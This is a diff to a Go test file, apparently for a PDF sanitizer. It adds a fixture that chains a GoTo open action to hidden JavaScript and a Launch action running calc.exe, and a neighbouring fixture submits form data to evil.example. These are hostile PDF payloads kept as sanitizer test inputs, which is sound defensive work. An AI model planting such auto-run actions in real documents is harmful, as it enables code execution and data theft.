@@ -71,6 +71,12 @@ func fixtures() []fixture {
 			inInput: []string{"/JavaScript", "/JS", "/OpenAction"},
 		},
 		{
+			// A GoTo open action is kept, but not what hangs off it.
+			name:    "openaction-goto-chain",
+			doc:     fx.Doc{Root: 1, Objs: fx.Page("x", "/OpenAction <</S /GoTo /D [3 0 R /Fit] /AA <</O <</S /JavaScript /JS (x)>>>> /Next <</S /Launch /F (calc.exe)>>>>", "")},
+			inInput: []string{"/AA", "/JavaScript", "/JS", "/Launch"},
+		},
+		{
 			name:    "page-aa",
 			doc:     fx.Doc{Root: 1, ObjStm: true, Objs: fx.Page("x", "", "/AA <</O <</S /JavaScript /JS 6 0 R>> /C <</S /SubmitForm /F (http://evil.example/)>>>>")},
 			inInput: []string{"/AA", "/JavaScript", "/JS", "/SubmitForm"},
